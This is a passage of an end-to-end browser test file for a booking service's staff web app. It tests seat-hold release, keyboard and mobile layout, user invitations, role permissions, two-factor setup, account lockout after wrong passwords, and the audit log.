    const partnerHold = (await ok<{ BookingReference: string; Channel: string }[]>(admin, 'GET', `/api/v2/admin/holds?TimeslotID=${slot.ID}`)).find(
      (h) => h.Channel === 'partner-api',
    )!;
    await dialog.getByRole('button', { name: 'Close' }).click();
    await page.goto(`${base}/bookings/${partnerHold.BookingReference}`);
    await page.getByRole('button', { name: 'Release hold' }).click();
    await page
      .getByRole('dialog', { name: /Release the hold/ })
      .getByRole('button', { name: 'Release hold' })
      .click();
    await page.getByText(/is released; its seats are back on sale/).waitFor();
    expect((await ok<{ Status: string }>(admin, 'GET', `/api/v2/admin/bookings/${partnerHold.BookingReference}`)).Status).toBe('expired');
    await page.goto(`${base}/activities/${pottery.ActivityID}?month=${DAY.slice(0, 7)}`);
    await page.locator(`[data-timeslot="${slot.ID}"]`).click();
    await holds.getByText(/in 2 holds/).waitFor();
    await holds.getByRole('button', { name: 'Release all' }).click();
    await holds.getByRole('button', { name: 'Yes, release' }).click();
    await holds.getByText(/No seats are on hold/).waitFor();
    expect(await dialog.getByText('Booked', { exact: true }).locator('..').textContent()).toContain('2');
    const after = (
      await ok<{ Booked: number }[]>(admin, 'GET', `/api/v2/admin/activities/${pottery.ActivityID}/timeslots?From=${DAY}&To=${DAY}`)
    )[0]!;
    expect(after.Booked).toBe(2);
    await dialog.getByRole('button', { name: 'Close' }).click();
  });

  it('lists activities, works by keyboard and at phone width, and signs out', async () => {
    await nav(page).getByRole('link', { name: 'Activities', exact: true }).click();
    await page.locator('.activity-card').first().waitFor();
    await screenshot(page, 'activities');

    // Keyboard: the first Tab reaches the skip link, which moves focus to the page.
    await page.goto(`${base}/bookings`);
    await page.getByRole('heading', { name: 'Bookings', level: 1 }).waitFor();
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Skip to content');
    await page.keyboard.press('Enter');
    // Tab into the filters and pick a source without the mouse.
    await page.getByLabel('Source', { exact: true }).focus();
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Tab');
    expect(new URL(page.url()).searchParams.get('source')).toBe('online');
    await page.getByLabel('Source', { exact: true }).selectOption('');

    await page.setViewportSize({ width: 390, height: 844 });
    await page.reload();
    await page.getByRole('heading', { name: 'Bookings', level: 1 }).waitFor();
    expect(await page.getByRole('navigation', { name: 'Main' }).isVisible()).toBe(false);
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    expect(overflow).toBeLessThanOrEqual(0);
    await screenshot(page, 'bookings-phone', false);
    await page.getByRole('button', { name: 'Menu' }).click();
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Usage' }).click();
    await page.getByRole('heading', { name: 'Usage', level: 1 }).waitFor();
    await signOut(page);
    // The session is over on the server too, not only in this page.
    expect(await page.evaluate(() => fetch('/api/v2/staff/me').then((r) => r.status))).toBe(401);
    await page.setViewportSize({ width: 1360, height: 900 });
  });

  it('invites a guide on the Users page; the guide accepts the e-mailed invitation and sees only what the role may use', async () => {
    await signIn(page, base, OWNER, OWNER_PASSWORD);
    await nav(page).getByRole('link', { name: 'Users', exact: true }).click();
    await page.getByRole('heading', { name: 'Users', level: 1 }).waitFor();
    await page.getByLabel('E-mail address', { exact: true }).fill('jonas@spree.example');
    await page.getByLabel('Name', { exact: true }).fill('Jonas');
    await page.getByLabel('Role', { exact: true }).selectOption('guide');
    await page.getByRole('button', { name: 'Send invitation' }).click();
    await page.getByText('Invitation sent to jonas@spree.example.').waitFor();
    await page
      .getByRole('cell', { name: /jonas@spree\.example/ })
      .first()
      .waitFor();

    // The worker delivers the invitation through SMTP within a tick or two.
    await expect.poll(() => smtp.messages.find((m) => m.to.includes('jonas@spree.example')), { timeout: 20_000 }).toBeTruthy();
    const invitation = smtp.messages.find((m) => m.to.includes('jonas@spree.example'))!;
    // The link names the server's PUBLIC_URL (localhost); the browser reaches it at 127.0.0.1.
    const link = /http\S+?(\/accept-invitation#token=[A-Za-z0-9_-]+)/.exec(invitation.text)![1]!;
    await signOut(page);

    await page.goto(base + link);
    await page.getByLabel('New password', { exact: true }).fill('guide of the spree');
    await page.getByLabel('Repeat the password', { exact: true }).fill('guide of the spree');
    await page.getByRole('button', { name: 'Set password and sign in' }).click();
    // A guide starts on today's manifests, the one page of the role.
    await page.getByRole('heading', { name: 'Manifests', level: 1 }).waitFor();
    expect(await navigationLinks(page)).toEqual(['Manifests']);
    await nav(page)
      .getByRole('link', { name: /My account/ })
      .click();
    await page.getByRole('heading', { name: 'My account', level: 1 }).waitFor();
    await screenshot(page, 'account');
    // Setting up two-factor asks for the password first.
    await page.getByLabel('Password, to set it up', { exact: true }).fill('not my password');
    await page.getByRole('button', { name: 'Set up two-factor' }).click();
    await page.getByText('Password is not your current password').waitFor();
    await page.getByLabel('Password, to set it up', { exact: true }).fill('guide of the spree');
    await page.getByRole('button', { name: 'Set up two-factor' }).click();
    await page.getByRole('img', { name: /QR code/ }).waitFor();
    await page.goto(`${base}/bookings`);
    await page.getByRole('heading', { name: 'Not available to your role' }).waitFor();
    expect(await page.evaluate(() => fetch('/api/v2/admin/bookings').then((r) => r.status))).toBe(403);
    await signOut(page);

    // The owner makes Jonas front desk; the audit log shows it.
    await signIn(page, base, OWNER, OWNER_PASSWORD);
    await page.goto(`${base}/users`);
    await page.getByLabel('Role of jonas@spree.example').selectOption('front-desk');
    await page.getByText('jonas@spree.example is now front desk.').waitFor();
    await screenshot(page, 'users');

    // Five wrong passwords lock Jonas out: the page says until when, and the owner lifts it.
    for (let i = 0; i < 5; i++) {
      const wrong = await fetch(`${base}/api/v2/staff/sign-in`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ Email: 'jonas@spree.example', Password: `not it ${i}` }),
      });
      expect(wrong.status).toBe(401);
    }
    await page.reload();
    const jonas = page.getByRole('row', { name: /jonas@spree\.example/ });
    await jonas.getByText(/^Locked until \d{1,2}:\d{2}/).waitFor();
    expect(await axeViolations(page, 'main')).toEqual([]);
    await screenshot(page, 'users-locked');
    await jonas.getByRole('button', { name: 'Unlock jonas@spree.example' }).click();
    await page.getByText('jonas@spree.example can sign in again.').waitFor();
    await jonas.getByText('Active', { exact: true }).waitFor();
    await nav(page).getByRole('link', { name: 'Audit log', exact: true }).click();
    await page.getByRole('heading', { name: 'Audit log', level: 1 }).waitFor();
    await page.getByLabel('Action', { exact: true }).selectOption('user.update');
    await expect.poll(() => page.getByRole('table', { name: 'Audit log entries' }).getByRole('row').count()).toBe(2);
    await page.getByText('Before and after').click();
    await page.getByText('"Role": "front-desk"').waitFor();
    const csv = await page.evaluate(() => fetch('/api/v2/admin/audit/export?Action=user.update').then((r) => r.text()));
    expect(csv.split('\r\n')[1]).toContain(`user.update,user`);
    await screenshot(page, 'audit-log');
    // Usable at phone width: nothing wider than the screen.
    await page.setViewportSize({ width: 390, height: 844 });
    for (const path of ['/audit', '/users', '/account']) {
      await page.goto(base + path);
      await page.getByRole('heading', { level: 1 }).waitFor();
      expect(await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth), path).toBeLessThanOrEqual(0);
    }
    await page.setViewportSize({ width: 1360, height: 900 });
    await signOut(page);

    await signIn(page, base, 'jonas@spree.example', 'guide of the spree');
    await page.getByRole('heading', { name: 'Bookings', level: 1 }).waitFor();
    expect(await navigationLinks(page)).toEqual(['Bookings', 'Manifests', 'Activities', 'Waitlists']);
    await signOut(page);
  });
});
